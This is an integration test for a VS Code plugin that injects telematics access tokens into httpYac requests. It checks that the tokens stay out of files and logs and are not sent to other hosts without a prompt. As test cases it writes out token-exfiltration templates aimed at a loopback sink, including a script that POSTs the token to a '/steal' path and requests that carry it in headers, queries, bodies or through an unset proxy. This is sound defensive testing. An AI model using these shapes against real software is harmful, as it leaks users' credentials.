// httpYac itself (6.16.7, installed beside us in the real host) with our plugin in it (issue 49): the live
// variables resolve at Send with exposure off, no env and no file; a live token that httpYac would carry to
// another site (a loopback sink), through a proxy the person did not set or with certificate checks off
// waits for the question, and on Cancel the sink receives nothing; twins aimed at the service go with no question.
// httpYac holds a reference and the token is put in at the door (issue 64): the four shapes that once
// carried it elsewhere (OAuth2, XPath, a script's own request, a redirect) deliver nothing holding it.
// httpYac's own variables resolve with the plugin in (issue 68).
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { RiggedEmulator } from '../../emulator/rig';
import type { TestApi } from '../testApi';
import { countingServer, type CountingServer } from '../../support/countingServer';
import { logFiles, readText } from '../logFiles';
import { logIn, ScriptedPrompter, settings, until, useEmulatorSuite } from '../loginHelpers';

const HTTPYAC_ID = 'anweber.vscode-httpyac';

interface HttpyacExports { httpyac: { store: { pluginStore: Record<string, unknown> } } }

describe('httpYac gets the token at Send and cannot carry it elsewhere unasked (real VS Code, httpYac 6.16.7)', function () {
	this.timeout(60_000);
	let api: TestApi;
	let emu: RiggedEmulator;
	let sink: CountingServer;
	let token: string;
	let counter = 0;

	useEmulatorSuite({ rateLimit: 'lifted', logOutBetweenTests: false }, (started) => ({ api, emu } = started));

	before(async () => {
		const httpyac = vscode.extensions.getExtension<HttpyacExports>(HTTPYAC_ID);
		assert.ok(httpyac, 'httpYac is installed in the test host');
		const exports = await httpyac.activate();
		sink = await countingServer('127.0.0.1', 0, ({ url }) => (url.startsWith('/token') ? { status: 200, headers: { 'content-type': 'application/json' }, body: '{"access_token":"oauth-access-token","token_type":"bearer","expires_in":3600}' } : undefined));
		const session = await logIn(api, emu, 'user');
		assert.equal(session.account.name, 'user');
		token = api.services.store.get(session.account.id)!.tokens!.accessToken;
		assert.equal(settings().get('exposeToken'), 'off', 'exposure is off');
		// The plugin is added once httpYac runs and a REST file is open.
		await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ language: 'http', content: 'GET http://127.0.0.1:1/\n' }));
		await until('our plugin in httpYac\'s plugin store', () => typeof exports.httpyac.store.pluginStore.telematicsAuth === 'function', 20_000);
	});

	after(async () => {
		api.setPrompter(undefined);
		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
		await sink?.close();
	});

	/**
	 * Opens `text` as a new .http file and sends the request on the line of `cursor` with httpYac's own
	 * Send, the question answered `answer`: what was asked (each question's text).
	 */
	async function send(text: string, cursor: string, answer: boolean): Promise<string[]> {
		const file = path.join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, `httpyac-${++counter}.http`);
		fs.writeFileSync(file, text);
		const document = await vscode.workspace.openTextDocument(file);
		await vscode.window.showTextDocument(document);
		const prompter = new ScriptedPrompter([], 'user', answer);
		api.setPrompter(prompter);
		try {
			await vscode.commands.executeCommand('httpyac.send', document, document.positionAt(text.lastIndexOf(cursor)).line);
		} finally {
			api.setPrompter(undefined);
			await vscode.commands.executeCommand('workbench.action.closeAllEditors');
			fs.rmSync(file, { force: true });
		}
		return prompter.confirmations;
	}

	const sinkUrl = (): string => `http://127.0.0.1:${sink.port}`;

	it('{{TELEMATICS_TOKEN_USER}} and {{TELEMATICS_TOKEN}} reach the service with exposure off, no env and no file', async () => {
		for (const variable of ['TELEMATICS_TOKEN_USER', 'TELEMATICS_TOKEN']) {
			assert.equal(process.env[variable], undefined, `${variable} is in no environment`);
			emu.resetStats();
			const asked = await send(`GET ${emu.url}/v1/Me\nAuthorization: Bearer {{${variable}}}\n`, 'GET', false);
			await until(`the service to get the token through {{${variable}}}`, () => emu.stats.lastMeAuthorization === `Bearer ${token}`);
			assert.deepEqual(asked, [], 'no question');
		}
		const folder = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
		for (const name of fs.readdirSync(folder)) {
			if (fs.statSync(path.join(folder, name)).isFile()) assert.ok(!fs.readFileSync(path.join(folder, name), 'utf8').includes(token), `${name} holds no token`);
		}
	});

	it('httpYac\'s own variables reach the service resolved with the plugin in (issue 68)', async () => {
		emu.resetStats();
		const asked = await send(`GET ${emu.url}/v1/Me?guid={{$guid}}&datetime={{$datetime iso8601}}&n={{$randomInt 1 9}}&home={{$processEnv HOME}}&exposed=none{{$processEnv TELEMATICS_TOKEN}}\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`, 'GET', false);
		await until('the service to get the request', () => emu.stats.requests.some((r) => r.path === '/v1/Me' && r.query.includes('guid=')));
		const query = new URLSearchParams(emu.stats.requests.find((r) => r.path === '/v1/Me')!.query);
		assert.match(query.get('guid')!, /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
		assert.match(query.get('datetime')!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
		assert.match(query.get('n')!, /^[1-8]$/);
		assert.equal(query.get('home'), process.env.HOME);
		assert.equal(query.get('exposed'), 'none', 'exposure off: {{$processEnv TELEMATICS_TOKEN}} is empty, as httpYac sends it alone');
		assert.equal(emu.stats.lastMeAuthorization, `Bearer ${token}`, 'and the token went in at the door');
		assert.deepEqual(asked, []);
	});

	// The four shapes of issue 64, each with the variable only: the sink gets nothing holding the live token.
	const holdsToken = (r: CountingServer['received'][number]): boolean => {
		const texts = [r.url, r.body, ...Object.values(r.headers).map(String)];
		const base64 = texts.flatMap((t) => [...t.matchAll(/[A-Za-z0-9+/_-]{16,}={0,2}/g)].map(([w]) => Buffer.from(w, 'base64').toString('utf8')));
		return [...texts, ...base64, texts.join(''), Object.values(r.headers).join('')].some((t) => t.includes(token));
	};
	const doorShapes: Array<[string, (s: string, o: string) => string, string]> = [
		['OAuth2 client credentials with the variable as the client secret', (s, o) => `@oauth2_clientId = client\n@oauth2_clientSecret = {{TELEMATICS_TOKEN}}\n@oauth2_tokenEndpoint = ${o}/token\n\nGET ${s}/v1/Me\nAuthorization: oauth2 client_credentials\n`, 'GET'],
		['XPath cutting the variable over two headers', (_s, o) => `@doc = <t>{{TELEMATICS_TOKEN}}</t>\n\nGET ${o}/xpath\nX-A: {{$xpath:doc substring(/t,1,40)}}\nX-B: {{$xpath:doc substring(/t,41)}}\n`, 'GET'],
		['a script posting the variable with require(\'http\')', (s, o) => `{{\n  const http = require('http');\n  await new Promise((resolve) => { const req = http.request('${o}/steal', { method: 'POST' }, (res) => { res.resume(); res.on('end', resolve); }); req.on('error', resolve); req.end(TELEMATICS_TOKEN); });\n}}\n\nGET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`, 'GET'],
		['the service answering with a 307 to another site', (s, o) => `GET ${s}/__emulator/redirect?to=${encodeURIComponent(`${o}/landed`)}\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`, 'GET'],
	];
	for (const [name, text, cursor] of doorShapes) {
		it(`the door, ${name}: the other site gets nothing holding the live token`, async () => {
			const before = sink.received.length;
			emu.resetStats();
			const asked = await send(text(emu.url, sinkUrl()), cursor, false);
			await until('the sink to get its request', () => sink.received.length > before);
			for (const r of sink.received.slice(before)) assert.ok(!holdsToken(r), `${r.method} ${r.url} holds the live token`);
			assert.deepEqual(asked, [], 'no question: what reaches the sink is no token');
		});
	}

	it('the door: the script\'s own request to the service carries the live token with no question', async () => {
		emu.resetStats();
		const asked = await send(doorShapes[2]![1](emu.url, sinkUrl()), 'GET', false);
		await until('the service to get the token', () => emu.stats.lastMeAuthorization === `Bearer ${token}`);
		assert.deepEqual(asked, []);
	});

	it('the door: a custom header to the service answered with a 307 elsewhere is asked about, and Cancel sends nothing', async () => {
		const before = sink.hits();
		const asked = await send(`GET ${emu.url}/__emulator/redirect?to=${encodeURIComponent(`${sinkUrl()}/landed`)}\nX-Token: {{TELEMATICS_TOKEN}}\n`, 'GET', false);
		assert.equal(asked.length, 1);
		assert.equal(sink.hits(), before);
	});

	it('after httpYac sent with the variables, no file in VS Code\'s log folder holds the token (issue 64)', async () => {
		// <logs>/<session>/window1/exthost/<our id>: the session's folder holds every window's output channels.
		const session = vscode.Uri.joinPath(api.services.context.logUri, '..', '..', '..');
		const reference = 'eyJhbGciOiJub25lIiwidHlwIjoidGVsZW1hdGljcy1hdXRoLXJlZmVyZW5jZSJ9';
		// httpYac writes what it sent to its output channels (files VS Code keeps); wait until one shows a reference.
		const texts = await until('httpYac\'s log to show what it sent', async () => {
			const files = await logFiles(session);
			return Promise.all(files.map(async (f) => [f.path, (await readText(f)) ?? ''] as const));
		}, { accept: (all) => all.some(([file, text]) => /httpyac/i.test(file) && text.includes(reference)), timeoutMs: 10_000, everyMs: 500 }).catch(async () => {
			const files = await logFiles(session);
			throw new Error(`no log file under ${session.path} shows a reference: ${files.map((f) => f.path).join(', ')}`);
		});
		for (const [file, text] of texts) assert.ok(!text.includes(token), `${file} holds the live token`);
	});

	it('a name no logged-in account has is an error naming it, and nothing is sent', async () => {
		emu.resetStats();
		const file = path.join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, `httpyac-${++counter}.http`);
		fs.writeFileSync(file, `GET ${emu.url}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN_NOBODY}}\n`);
		const document = await vscode.workspace.openTextDocument(file);
		await vscode.window.showTextDocument(document);
		// Not awaited: httpYac's Send ends once its error notification is closed.
		void vscode.commands.executeCommand('httpyac.send', document, 0);
		try {
			await until('the error naming the account', () => api.services.log.recent().some((l) => l.includes('TELEMATICS_TOKEN_NOBODY') && l.includes('nobody')));
		} catch (e) {
			throw new Error(`${(e as Error).message}\n${api.services.log.recent().slice(-15).join('\n')}`);
		}
		assert.equal(emu.stats.requests.filter((r) => r.path.toLowerCase() === '/v1/me').length, 0, 'the service got nothing');
		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
		fs.rmSync(file, { force: true });
	});

	// Each hostile shape, the token written literally; `${s}` is the service, `${o}` the sink.
	const shapes: Array<[string, (s: string, o: string, t: string) => string, string]> = [
		['to another site in the Authorization header', (_s, o, t) => `GET ${o}/v1/Me\nAuthorization: Bearer ${t}\n`, 'GET'],
		['to another site in the query', (_s, o, t) => `GET ${o}/v1/Me?access_token=${t}\n`, 'GET'],
		['to another site in the body', (_s, o, t) => `POST ${o}/collect\nContent-Type: application/json\n\n{"token": "${t}"}\n`, 'POST'],
		['to another site through a file variable', (_s, o, t) => `@host = ${o}\n@t = ${t}\n\n###\nGET {{host}}/v1/Me\nX-Token: {{t}}\n`, 'GET {{host}}'],
		['to the service through a proxy the person did not set', (s, o, t) => `# @proxy ${o}\nGET ${s}/v1/Me\nAuthorization: Bearer ${t}\n`, 'GET'],
		['to another site through our own variable', (_s, o) => `GET ${o}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN_USER}}\n`, 'GET'],
		['moved to another site by a request script', (s, o, t) => `{{@request\n  request.url = '${o}/moved';\n}}\n\n###\nGET ${s}/v1/Me\nAuthorization: Bearer ${t}\n`, 'GET'],
	];
	for (const [name, text, cursor] of shapes) {
		it(`${name}: asked, and on Cancel the sink receives nothing`, async () => {
			const before = sink.hits();
			const asked = await send(text(emu.url, sinkUrl(), token), cursor, false);
			assert.equal(asked.length, 1, 'asked once');
			assert.match(asked[0]!, /user/);
			assert.equal(sink.hits(), before, 'the sink received nothing');
			assert.ok(api.services.log.recent().at(-1)?.includes('stopped the request'), 'the log says why');
		});
	}

	it('with certificate checks off, to the service: asked, and on Cancel the service receives nothing', async () => {
		emu.resetStats();
		const asked = await send(`# @noRejectUnauthorized\nGET ${emu.url}/v1/Me\nAuthorization: Bearer ${token}\n`, 'GET', false);
		assert.equal(asked.length, 1);
		assert.match(asked[0]!, /certificate checks off/);
		assert.equal(emu.stats.lastMeAuthorization, undefined, 'nothing reached the service');
	});

	it('"Send Anyway" sends that request once', async () => {
		const before = sink.received.length;
		const asked = await send(`GET ${sinkUrl()}/v1/Me\nAuthorization: Bearer ${token}\n`, 'GET', true);
		assert.equal(asked.length, 1);
		await until('the sink to get the request', () => sink.received.length > before);
		assert.equal(sink.received.at(-1)!.authorization, `Bearer ${token}`);
	});

	const twins: Array<[string, (s: string, t: string) => string, string]> = [
		['the Authorization header', (s, t) => `GET ${s}/v1/Me\nAuthorization: Bearer ${t}\n`, 'GET'],
		['a file variable naming the service', (s, t) => `@host = ${s}\n@t = ${t}\n\n###\nGET {{host}}/v1/Me\nAuthorization: Bearer {{t}}\n`, 'GET {{host}}'],
		['a request script that keeps the service', (s, t) => `{{@request\n  request.headers['X-Checked'] = 'yes';\n}}\n\n###\nGET ${s}/v1/Me\nAuthorization: Bearer ${t}\n`, 'GET'],
	];
	for (const [name, text, cursor] of twins) {
		it(`benign twin, ${name}: no question, the service gets the token`, async () => {
			emu.resetStats();
			const asked = await send(text(emu.url, token), cursor, false);
			await until('the service to get the token', () => emu.stats.lastMeAuthorization === `Bearer ${token}`);
			assert.deepEqual(asked, []);
		});
	}
});
